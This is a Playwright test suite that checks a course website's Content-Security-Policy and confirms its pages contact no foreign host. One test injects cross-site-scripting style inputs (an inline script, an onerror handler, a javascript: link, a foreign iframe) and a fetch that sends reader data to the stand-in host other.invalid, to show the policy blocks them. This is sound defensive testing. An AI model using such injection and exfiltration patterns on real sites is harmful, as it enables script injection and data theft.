import { expect, test, type Page } from '@playwright/test';
import { wakeAll } from './support/awake.ts';
import { allPages, builtFile, watchForTrouble, type Trouble } from './support/site.ts';

/** What broke the policy of a page, in the page itself or in one of its frames. */
async function watchForViolations(page: Page): Promise<string[]> {
  const broken: string[] = [];
  await page.exposeBinding('brokePolicy', (_source, what: string) => broken.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective, blockedURI, sample } = event;
      const told = window as unknown as { brokePolicy: (what: string) => void };
      told.brokePolicy(`${effectiveDirective}: ${blockedURI} ${sample}`);
    });
  });
  return broken;
}

/** The sources from which a policy allows scripts. */
const scriptsOf = (policy: string) => /script-src ([^;]+)/.exec(policy)?.[1]?.split(' ') ?? [];

interface Watched extends Trouble {
  broken: string[];
}
const nothing: Watched = { foreign: [], errors: [], broken: [] };

async function watch(page: Page): Promise<Watched> {
  return Object.assign(watchForTrouble(page), { broken: await watchForViolations(page) });
}

for (const address of allPages()) {
  test(`${address} keeps to its policy and to its own host, at rest and awake`, async ({
    page,
  }) => {
    const seen = await watch(page);
    const answer = await page.goto(address, { waitUntil: 'networkidle' });
    const written = await page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute('content');
    const sent = answer?.headers()['content-security-policy'] ?? '';
    expect(scriptsOf(sent)).toEqual(scriptsOf(written ?? ''));
    expect(sent).toContain("frame-ancestors 'self'");
    expect(seen).toEqual(nothing);
    await wakeAll(page);
    await page.waitForLoadState('networkidle');
    expect(seen).toEqual(nothing);
  });
}

test('no page allows scripts that it does not name', () => {
  for (const address of [...allPages().map((path) => `${path.slice(1)}index.html`), '404.html']) {
    const policy = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(
      builtFile(address),
    )?.[1];
    const scripts = scriptsOf(policy ?? '');
    const named = /^'(self|wasm-unsafe-eval|sha256-[\w+/]+=*)'$/;
    expect(scripts.length, address).toBeGreaterThan(1);
    expect(
      scripts.filter((source) => !named.test(source)),
      address,
    ).toEqual([]);
    expect(builtFile(address), address).not.toMatch(/<[a-z][^<>]* on[a-z]+=/i);
  }
});

test('what got into a page could neither run, nor be sent away, nor frame another site', async ({
  page,
}) => {
  const broken = await watchForViolations(page);
  await page.goto('/theory/kafka/');
  const ran = await page.evaluate(async () => {
    const marks = window as unknown as { ran: string[] };
    marks.ran = [];
    const script = document.createElement('script');
    script.textContent = 'ran.push("script")';
    document.body.append(script);
    const image = document.createElement('div');
    image.innerHTML = '<img src="data:," onerror="ran.push(\'handler\')">';
    const frame = document.createElement('iframe');
    frame.src = 'http://other.invalid/';
    document.body.append(image, frame);
    const link = Object.assign(document.createElement('a'), {
      href: 'javascript:ran.push("link")',
    });
    document.body.append(link);
    link.click();
    await fetch('http://other.invalid/?what-the-reader-wrote').catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 200));
    return marks.ran;
  });
  expect(ran).toEqual([]);
  const directives = broken.map((what) => what.split(':')[0]);
  for (const directive of ['script-src-elem', 'script-src-attr', 'connect-src', 'frame-src']) {
    expect(directives).toContain(directive);
  }
});

test('the worksheets run under the policy, on this host alone', async ({ page }) => {
  const seen = await watch(page);
  await page.goto('/figures/worksheets/');
  const sheet = page.getByRole('figure', { name: 'Snowflake worksheet' });
  await sheet.getByRole('button', { name: 'Open the worksheet', exact: true }).click();
  await expect(sheet.getByText(/The database is ready/)).toBeVisible({ timeout: 60_000 });
  await sheet.getByRole('textbox', { name: /^Editor/ }).click();
  await page.keyboard.press('ControlOrMeta+Enter');
  await expect(sheet.locator('.sheet-said')).not.toBeEmpty();
  const dbt = page.getByRole('figure', { name: 'dbt worksheet' });
  await dbt.getByRole('button', { name: 'Open the worksheet', exact: true }).click();
  await dbt.getByRole('button', { name: 'dbt run', exact: true }).click();
  await expect(dbt.locator('.sheet-dbt > li').first()).toBeVisible({ timeout: 60_000 });
  expect(seen).toEqual(nothing);
});

test('search and the lab kit ask this host alone', async ({ page }) => {
  const seen = await watch(page);
  await page.goto('/lab-exercise/');
  await page.getByRole('button', { name: 'Search' }).click();
  const dialog = page.getByRole('dialog', { name: 'Search' });
  await dialog.getByRole('textbox').fill('watermark');
  await expect(dialog.getByRole('link').first()).toBeVisible();
  await page.keyboard.press('Escape');
  const kit = page.waitForEvent('download');
  await page.getByLabel('Your attendee id').fill('ada');
  await page.getByRole('button', { name: /lab kit/i }).click();
  expect((await kit).suggestedFilename()).toMatch(/\.zip$/);
  expect(seen).toEqual(nothing);
});

test('the trainer’s two windows keep to the policy', async ({ context }) => {
  const trainer = await context.newPage();
  const seen = await watch(trainer);
  await trainer.goto('/trainer/');
  await trainer.keyboard.press('Shift');
  const opening = context.waitForEvent('page');
  await trainer.getByRole('button', { name: 'Open the audience window' }).click();
  const audience = await opening;
  const there = watchForTrouble(audience);
  await expect(trainer.getByText('The audience window follows.')).toBeVisible();
  await audience.locator('.stage iframe').waitFor();
  expect({ ...seen, there }).toEqual({ ...nothing, there: { foreign: [], errors: [] } });
});

test.describe('with the course kept for reading offline', () => {
  test.use({ serviceWorkers: 'allow' });

  test('no other host is asked while it is stored, nor without a network', async ({
    page,
    context,
  }) => {
    const foreign: string[] = [];
    context.on('request', (request) => {
      if (new URL(request.url()).hostname !== 'localhost') foreign.push(request.url());
    });
    const broken = await watchForViolations(page);
    await page.goto('/');
    await page.evaluate(() => navigator.serviceWorker.ready);
    await expect
      .poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null))
      .toBe(true);
    await context.setOffline(true);
    const answer = await page.goto('/figures/watermark/');
    expect(answer?.fromServiceWorker()).toBe(true);
    expect(answer?.headers()['content-security-policy']).toContain("frame-ancestors 'self'");
    await wakeAll(page);
    expect({ foreign, broken }).toEqual({ foreign: [], broken: [] });
  });
});
